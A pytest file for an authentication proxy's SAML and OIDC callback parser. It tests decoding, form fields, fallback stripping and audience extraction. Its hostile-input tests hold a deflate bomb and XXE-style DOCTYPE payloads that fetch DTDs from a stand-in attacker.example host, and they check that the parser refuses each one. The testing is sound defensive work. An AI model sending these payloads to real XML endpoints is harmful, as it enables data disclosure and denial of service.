"""Pure callback parsing: query, fallback, form fields, SAML (POST and Redirect), id_token, hostile input."""

from __future__ import annotations

import base64
import time
import zlib
from urllib.parse import quote, unquote_plus, unquote_to_bytes, urlencode

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from proxy.routing.callback import (
    PARSE_WINDOW,
    Callback,
    OidcFacts,
    SamlFacts,
    decode_value,
    form_field,
    guess_protocol,
    in_response_to,
    is_fallback,
    parse_query,
    query_value,
    read_oidc,
    read_saml,
    read_saml_xml,
    scan_audience,
    strip_fallback,
    unescape_base64_field,
    unquote_bytes,
)

from . import samples

DEST = "https://login.globex.com/login/callback"

# --- percent-decoding -----------------------------------------------------------------------

# Every byte that matters to the C fast path: escapes, backslashes (escape_decode's own escape
# character), hex digits of both cases, '+', and bytes outside ASCII.
_ENCODED = st.binary(max_size=24) | st.lists(
    st.sampled_from([b"%", b"%4", b"%41", b"%e9", b"%E9", b"%zz", b"\\", b"\\x41", b"\\n", b"+", b"a", b"/", b"\xe9"]),
    max_size=12,
).map(b"".join)


@settings(max_examples=2000, deadline=None)
@given(_ENCODED)
def test_decoding_is_the_standard_one(raw: bytes) -> None:
    """The C passes give exactly what the standard library gives, bad escapes and raw bytes included."""
    assert unquote_bytes(raw) == unquote_to_bytes(raw)
    assert decode_value(raw) == unquote_to_bytes(raw.replace(b"+", b" ")).decode("utf-8", "replace")
    if raw.isascii():
        assert decode_value(raw) == unquote_plus(raw.decode("ascii"), encoding="utf-8", errors="replace")


@pytest.mark.parametrize(
    ("raw", "expected"),
    [
        (b"https%3A%2F%2Flogin.globex.com%2Flogin%2Fcallback", b"https://login.globex.com/login/callback"),
        (b"100%", b"100%"),  # no escape: kept
        (b"%%41", b"%A"),
        (b"a\\x41%41", b"a\\x41A"),  # a backslash in the value stays a backslash
        (b"%5C%78%34%31", b"\\x41"),
        (b"%", b"%"),
        (b"%4", b"%4"),
        (b"%%%41%", b"%%A%"),
        (b"caf\xc3\xa9%20%C3%A9", "café é".encode()),  # raw UTF-8 passes through
        (b"\xff%41", b"\xffA"),
    ],
)
def test_unquote_bytes(raw: bytes, expected: bytes) -> None:
    assert unquote_bytes(raw) == expected


# --- query ------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("query", "expected"),
    [
        (b"", []),
        (b"a=1&b=2&a=3", [("a", "1"), ("b", "2"), ("a", "3")]),
        (b"connection=acme%2Dokta&x=a+b", [("connection", "acme-okta"), ("x", "a b")]),
        (b"empty=&flag", [("empty", ""), ("flag", "")]),
        (b"bad=%ff%fe", [("bad", "\ufffd\ufffd")]),
        (b"caf\xc3\xa9=1", [("caf\xc3\xa9", "1")]),  # raw bytes read as latin-1, never an error
    ],
)
def test_parse_query(query: bytes, expected: list[tuple[str, str]]) -> None:
    assert parse_query(query) == expected


@pytest.mark.parametrize(
    ("query", "name", "expected"),
    [
        (b"connection=acme", "connection", "acme"),
        (b"connection=acme&connection=beta", "connection", "acme"),
        (b"x=1&connection=a%20b", "connection", "a b"),
        (b"myconnection=acme", "connection", None),
        (b"code=1&state=2", "connection", None),
        (b"", "connection", None),
    ],
)
def test_query_value(query: bytes, name: str, expected: str | None) -> None:
    assert query_value(query, name) == expected


@pytest.mark.parametrize(
    ("query", "expected"),
    [
        (b"fallback=auth0", True),
        (b"connection=acme&fallback=auth0", True),
        (b"fallback=workos&fallback=auth0", True),
        (b"fallback=", False),
        (b"fallback=Auth0", False),
        (b"fallback=workos", False),
        (b"nofallback=auth0", False),
        (b"x=fallback%3Dauth0", False),
        (b"", False),
    ],
)
def test_is_fallback(query: bytes, expected: bool) -> None:
    assert is_fallback(query) is expected


@pytest.mark.parametrize(
    ("query", "expected"),
    [
        (b"fallback=auth0", b""),
        (b"b=2&fallback=auth0&a=1&a=%2F", b"b=2&a=1&a=%2F"),
        (b"fallback=auth0&connection=acme", b"connection=acme"),
        (b"connection=acme&fallback=auth0", b"connection=acme"),
        (b"x=a+b&fallback=auth0&y=%2f%2F&x=c%20d", b"x=a+b&y=%2f%2F&x=c%20d"),
        (b"fall%62ack=auth0&keep=1", b"keep=1"),
        (b"fallback=auth0&fallback=auth0&k=v", b"k=v"),
        (b"fallbackx=1&fallback=auth0", b"fallbackx=1"),
        (b"a=1&&fallback=auth0&b", b"a=1&&b"),
        (b"code=abc&state=x%3Dy&fallback=auth0", b"code=abc&state=x%3Dy"),
        (b"RelayState=fallback%3Dauth0&fallback=auth0", b"RelayState=fallback%3Dauth0"),
    ],
)
def test_strip_fallback_keeps_the_rest_byte_for_byte(query: bytes, expected: bytes) -> None:
    assert strip_fallback(query) == expected


@pytest.mark.parametrize(
    ("body", "name", "expected"),
    [
        (b"SAMLResponse=abc&RelayState=r", b"SAMLResponse", b"abc"),
        (b"RelayState=r&SAMLResponse=abc", b"SAMLResponse", b"abc"),
        (b"RelayState=r&SAMLResponse=a%2Bb%3D", b"SAMLResponse", b"a%2Bb%3D"),
        (b"xSAMLResponse=no&SAMLResponse=yes", b"SAMLResponse", b"yes"),
        (b"RelayState=SAMLResponse=no", b"SAMLResponse", None),
        (b"SAMLResponse=", b"SAMLResponse", b""),
        (b"SAMLResponse=first&SAMLResponse=second", b"SAMLResponse", b"first"),
        (b"id_token=a.b.c&state=s", b"id_token", b"a.b.c"),
        (b"state=s", b"id_token", None),
        (b"", b"id_token", None),
    ],
)
def test_form_field(body: bytes, name: bytes, expected: bytes | None) -> None:
    assert form_field(body, name) == expected


@pytest.mark.parametrize(
    ("raw", "expected"),
    [
        (b"PHNhbWw+", b"PHNhbWw"),  # a literal + in a form is a space, which base64 skips
        (b"PHNh%2BbWw%3D", b"PHNh+bWw="),
        (b"PH%2fNh%0D%0AbWw", b"PH/Nh\r\nbWw"),  # base64 decoding skips the line break
        (b"PH%41Nh", b"PHANh"),
        (b"plain", b"plain"),
    ],
)
def test_unescape_base64_field(raw: bytes, expected: bytes) -> None:
    assert unescape_base64_field(raw) == expected


# --- SAML -------------------------------------------------------------------------------------


def xml_with_prefix(prefix: str) -> bytes:
    p = f"{prefix}:" if prefix else ""
    px = f":{prefix}" if prefix else ""
    return (
        f'<{p}Response xmlns{px}="urn:oasis:names:tc:SAML:2.0:protocol" Destination="https://d/login/callback">'
        f'<{p}Issuer xmlns{px}="urn:oasis:names:tc:SAML:2.0:assertion">http://idp</{p}Issuer>'
        f'<{p}Assertion xmlns{px}="urn:oasis:names:tc:SAML:2.0:assertion"><{p}Issuer>http://other</{p}Issuer>'
        f"<{p}Conditions><{p}AudienceRestriction><{p}Audience> urn:auth0:t:acme </{p}Audience>"
        f"<{p}Audience>https://sp2</{p}Audience></{p}AudienceRestriction>"
        f"<{p}AudienceRestriction><{p}Audience>https://later</{p}Audience></{p}AudienceRestriction>"
        f"</{p}Conditions></{p}Assertion></{p}Response>"
    ).encode()


@pytest.mark.parametrize("prefix", ["saml", "saml2", "samlp", ""])
def test_namespace_prefixes(prefix: str) -> None:
    facts = read_saml_xml(xml_with_prefix(prefix))
    # the first AudienceRestriction only; the first Issuer; Destination of the Response
    assert facts == SamlFacts(True, ("urn:auth0:t:acme", "https://sp2"), "http://idp", "https://d/login/callback")


def test_samples_xml() -> None:
    facts = read_saml_xml(samples.saml_xml())
    assert facts == SamlFacts(
        True,
        ("urn:auth0:globex-prod:acme-okta",),
        "http://www.okta.com/acme",
        "https://login.globex.com/login/callback",
    )


ENCRYPTED = (
    b'<samlp:Response xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" '
    b'xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion" Destination="https://login.example.com/login/callback?'
    b'connection=acme"><saml:Issuer>http://idp.example.com</saml:Issuer>'
    b'<saml:EncryptedAssertion><xenc:EncryptedData xmlns:xenc="http://www.w3.org/2001/04/xmlenc#">'
    b"<xenc:CipherData><xenc:CipherValue>QUJD</xenc:CipherValue></xenc:CipherData></xenc:EncryptedData>"
    b"</saml:EncryptedAssertion></samlp:Response>"
)


def test_encrypted_assertion_gives_issuer_and_destination() -> None:
    facts = read_saml_xml(ENCRYPTED)
    assert facts == SamlFacts(
        True, (), "http://idp.example.com", "https://login.example.com/login/callback?connection=acme"
    )


@pytest.mark.parametrize(
    ("xml", "expected"),
    [
        (samples.saml_xml(audience=None), SamlFacts(True, (), "http://www.okta.com/acme", DEST)),
        (samples.saml_xml(issuer=None, destination=None), SamlFacts(True, ("urn:auth0:globex-prod:acme-okta",))),
        (samples.saml_xml(audience=None, issuer=None, destination=None), SamlFacts(False)),
        (b"<a><b>nothing useful</b></a>", SamlFacts(False)),
        (b"", SamlFacts(False)),
        (b"not xml at all", SamlFacts(False)),
        (b"<Response><Audience>unterminated", SamlFacts(False)),
        (b"\x00\xff\xfe<", SamlFacts(False)),
    ],
)
def test_saml_xml_partial_and_broken(xml: bytes, expected: SamlFacts) -> None:
    assert read_saml_xml(xml) == expected


def post_callback(xml: bytes, *, extra: str = "", query: bytes = b"") -> Callback:
    body = samples.saml_form(xml) + extra
    return Callback(query=query, body=body.encode(), form=True)


def test_post_binding() -> None:
    facts = read_saml(post_callback(samples.saml_xml()))
    assert facts is not None and facts.ok
    assert facts.audiences == ("urn:auth0:globex-prod:acme-okta",)


def test_post_binding_unencoded_plus_and_line_breaks() -> None:
    # base64 with '+' and '/' sent raw, and MIME line breaks (some IdPs wrap at 76 columns)
    xml = samples.saml_xml(padding=300)
    b64 = base64.encodebytes(xml).decode()  # wrapped with \n
    body = ("RelayState=r&SAMLResponse=" + quote(b64, safe="")).encode()
    facts = read_saml(Callback(body=body, form=True))
    assert facts is not None and facts.audiences == ("urn:auth0:globex-prod:acme-okta",)


def test_post_binding_needs_a_form_content_type() -> None:
    # a non-form body is not parsed as a form
    assert read_saml(Callback(body=samples.saml_form(samples.saml_xml()).encode(), form=False)) is None


def test_redirect_binding() -> None:
    query = samples.saml_redirect_query(samples.saml_xml()) + "&RelayState=r"
    facts = read_saml(Callback(query=query.encode()))
    assert facts == SamlFacts(True, ("urn:auth0:globex-prod:acme-okta",), "http://www.okta.com/acme", DEST)


def test_redirect_binding_garbage_deflate() -> None:
    query = "SAMLResponse=" + quote(base64.b64encode(b"\xff\x00not deflate").decode(), safe="")
    assert read_saml(Callback(query=query.encode())) == SamlFacts(False)


def test_deflate_bomb_is_capped() -> None:
    bomb_xml = b"<Response>" + b" " * (800 * PARSE_WINDOW) + b"</Response>"
    deflated = zlib.compress(bomb_xml, 9)[2:-4]
    assert len(deflated) < 200_000
    query = "SAMLResponse=" + quote(base64.b64encode(deflated).decode(), safe="")
    started = time.perf_counter()
    assert read_saml(Callback(query=query.encode())) == SamlFacts(False)
    assert time.perf_counter() - started < 1.0


@pytest.mark.parametrize(
    "field",
    [
        "!!!!",
        "%%%",
        "A",  # incomplete base64
        "====",
        base64.b64encode(b"plain text, not XML").decode(),
        base64.b64encode(b"<html><body>not SAML</body></html>").decode(),
        base64.b64encode(b"<Response").decode(),
        "",
    ],
)
def test_garbage_saml_is_unreadable_not_an_error(field: str) -> None:
    cb = Callback(body=urlencode({"SAMLResponse": field}).encode(), form=True)
    assert read_saml(cb) == SamlFacts(False)


@pytest.mark.parametrize("payload", [samples.XXE, samples.BILLION_LAUGHS])
def test_xxe_and_billion_laughs_are_refused_fast(payload: bytes) -> None:
    started = time.perf_counter()
    assert read_saml_xml(payload) == SamlFacts(False)
    assert read_saml(Callback(body=samples.saml_form(payload).encode(), form=True)) == SamlFacts(False)
    deflated = zlib.compress(payload)[2:-4]
    query = "SAMLResponse=" + quote(base64.b64encode(deflated).decode(), safe="")
    assert read_saml(Callback(query=query.encode())) == SamlFacts(False)
    assert time.perf_counter() - started < 0.5


@pytest.mark.parametrize(
    "payload",
    [
        # an internal DTD with no entity at all is refused too (defusedxml forbid_dtd)
        b'<!DOCTYPE r><samlp:Response xmlns:samlp="p" Destination="x"/>',
        # parameter entities / external DTD
        b'<!DOCTYPE r SYSTEM "http://attacker.example/x.dtd"><Response Destination="x"/>',
        b'<!DOCTYPE r [<!ENTITY % p SYSTEM "http://attacker.example/p">%p;]><Response Destination="x"/>',
        # an undeclared entity reference
        b'<Response Destination="x"><Audience>&xxe;</Audience></Response>',
    ],
)
def test_dtds_and_entities_are_refused(payload: bytes) -> None:
    assert read_saml_xml(payload) == SamlFacts(False)


def test_no_saml_response() -> None:
    assert read_saml(Callback(query=b"code=1&state=2")) is None
    assert read_saml(Callback(body=b"id_token=a.b.c", form=True)) is None


# --- OIDC -------------------------------------------------------------------------------------


def token_callback(token: str, *, in_query: bool = False) -> Callback:
    fields = urlencode({"id_token": token, "state": "s-123"}).encode()
    return Callback(query=fields, form=False) if in_query else Callback(body=fields, form=True)


@pytest.mark.parametrize(
    ("payload", "expected"),
    [
        ({"aud": "client-1", "iss": "https://idp"}, OidcFacts(True, ("client-1",), "https://idp")),
        ({"aud": ["client-1", "client-2"]}, OidcFacts(True, ("client-1", "client-2"), None)),
        ({"aud": ["client-1", 7, None]}, OidcFacts(True, ("client-1",), None)),
        ({"iss": "https://idp"}, OidcFacts(True, (), "https://idp")),
        ({"aud": 5, "iss": 6}, OidcFacts(False)),
        ({"sub": "user"}, OidcFacts(False)),
    ],
)
def test_id_token_aud_and_iss(payload: dict[str, object], expected: OidcFacts) -> None:
    assert read_oidc(token_callback(samples.id_token(payload))) == expected


def test_id_token_in_query() -> None:
    facts = read_oidc(token_callback(samples.id_token({"aud": "c"}), in_query=True))
    assert facts == OidcFacts(True, ("c",), None)


def b64url(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()


@pytest.mark.parametrize(
    "token",
    [
        "not-a-jwt",
        "a.b",
        "a.b.c.d",
        f"h.{b64url(b'not json')}.s",
        f"h.{b64url(b'[1, 2]')}.s",
        "h." + b64url(b'"aud"') + ".s",
        f"h.{b64url(bytes([0xFF, 0xFE]))}.s",
        "h.!!!!.s",
        "h." + "A" * 70_000 + ".s",  # longer than any real id_token
        "",
    ],
)
def test_bad_id_token(token: str) -> None:
    assert read_oidc(token_callback(token)) == OidcFacts(False)


def test_no_id_token() -> None:
    assert read_oidc(Callback(query=b"code=1&state=2")) is None
    assert read_oidc(Callback(body=b"id_token=a.b.c", form=False)) is None


@pytest.mark.parametrize(
    ("cb", "expected"),
    [
        (Callback(body=b"SAMLResponse=x", form=True), "saml"),
        (Callback(query=b"SAMLResponse=x"), "saml"),
        (Callback(body=b"id_token=x&state=s", form=True), "oidc"),
        (Callback(query=b"code=x&state=s"), "oidc"),
        (Callback(query=b"connection=acme"), "unknown"),
        (Callback(), "unknown"),
    ],
)
def test_guess_protocol(cb: Callback, expected: str) -> None:
    assert guess_protocol(cb) == expected


# --- the Audience tag scan (fast path) and its refusals ----------------------------------------

_REAL = b"<saml2:Audience>urn:auth0:globex-prod:acme-okta</saml2:Audience>"


@pytest.mark.parametrize(
    ("xml", "expected"),
    [
        (samples.saml_xml(padding=4000), "urn:auth0:globex-prod:acme-okta"),
        (b'<r><Audience xmlns="urn:oasis:names:tc:SAML:2.0:assertion">aud-1</Audience></r>', "aud-1"),
        (b"<r><saml:Audience\n  a='1'>  spaced  </saml:Audience></r>", "spaced"),
        (b'<?xml version="1.0"?><r>' + _REAL + b"</r>", "urn:auth0:globex-prod:acme-okta"),
        # a scan could misread these: the parser decides instead
        (b"<r><!-- <Audience>decoy</Audience> -->" + _REAL + b"</r>", None),
        (b"<r><![CDATA[<Audience>decoy</Audience>]]>" + _REAL + b"</r>", None),
        (b'<?xml version="1.0"?><?pi x?><r>' + _REAL + b"</r>", None),
        (b"<!DOCTYPE r><r>" + _REAL + b"</r>", None),
        (b"<r><Audience>a&amp;b</Audience></r>", None),
        (b"<r><Audience>\xff\xfe</Audience></r>", None),
        (b"<r><Audience></Audience></r>", None),
        (b"<r><AudienceRestriction/></r>", None),
        (b"not xml at all", None),
    ],
)
def test_scan_audience(xml: bytes, expected: str | None) -> None:
    assert scan_audience(xml) == expected


@pytest.mark.parametrize(
    "xml",
    [
        b"<r><!-- <Audience>decoy</Audience> -->" + _REAL + b"</r>",
        b'<?xml version="1.0"?><?pi x?><r>' + _REAL + b"</r>",
    ],
)
def test_the_parser_reads_what_the_scan_refuses(xml: bytes) -> None:
    assert scan_audience(xml) is None
    assert read_saml_xml(xml).audiences == ("urn:auth0:globex-prod:acme-okta",)


@pytest.mark.parametrize(
    ("query", "name", "expected"),
    [
        (b"connection=acme&x=1", "connection", "acme"),
        (b"x=1&connection=acme%2Dokta", "connection", "acme-okta"),
        (b"xconnection=no&connection=yes", "connection", "yes"),
        (b"connection=first&connection=second", "connection", "first"),
        (b"connection=a+b", "connection", "a b"),
        (b"connection=", "connection", ""),
        (b"connection", "connection", None),
        (b"", "connection", None),
    ],
)
def test_query_value_by_find_and_slice(query: bytes, name: str, expected: str | None) -> None:
    assert query_value(query, name) == expected


@pytest.mark.parametrize(
    ("query", "expected"),
    [
        (b"fallback=auth0", True),
        (b"a=1&fallback=auth0&b=2", True),
        (b"fallback=workos&fallback=auth0", True),
        (b"fallback=auth1", False),
        (b"nofallback=auth0", False),
        (b"fallback=auth%30", True),
    ],
)
def test_is_fallback_any_occurrence(query: bytes, expected: bool) -> None:
    assert is_fallback(query) is expected


@pytest.mark.parametrize(
    ("xml", "expected"),
    [
        (b'<samlp:Response InResponseTo="_abc" ID="r"><x/></samlp:Response>', "_abc"),
        (b'<Response ID="r"/>', None),
        (b'<?xml version="1.0" encoding="U4F-8"?><Response InResponseTo="_abc"/>', None),  # make fuzz
        (b'<!DOCTYPE r [<!ENTITY e "x">]><Response InResponseTo="&e;"/>', None),
        (b"not xml", None),
        (b'<Response InResponseTo="_late"' + b" " * (PARSE_WINDOW + 10) + b"/>", None),  # past the window
    ],
)
def test_in_response_to_never_raises(xml: bytes, expected: str | None) -> None:
    assert in_response_to(xml) == expected
